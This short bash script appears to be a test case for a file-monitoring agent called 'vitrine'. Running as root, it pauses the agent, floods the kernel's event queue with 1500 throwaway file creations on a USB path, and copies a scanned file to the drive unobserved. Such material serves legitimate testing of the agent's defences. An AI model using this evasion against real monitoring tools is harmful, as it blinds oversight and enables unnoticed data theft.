#!/usr/bin/env bash
# technique: root stops the agent, fills what the kernel keeps for it with harmless files, copies, and lets it go on
# hooks: file_open (the pinned guard goes on, and counts what it could not tell)
# sink: usb
# notice: untold
# as: root

. attack.sh
pkill -STOP -x vitrine
python3 - <<'PY'
import os

for number in range(1500):
    name = f"{os.environ['USB']}/{number}"
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
    os.unlink(name)
PY
cp "$SCAN" "$COPY"
pkill -CONT -x vitrine
sleep 1
cp "$SCAN" "$COPY"
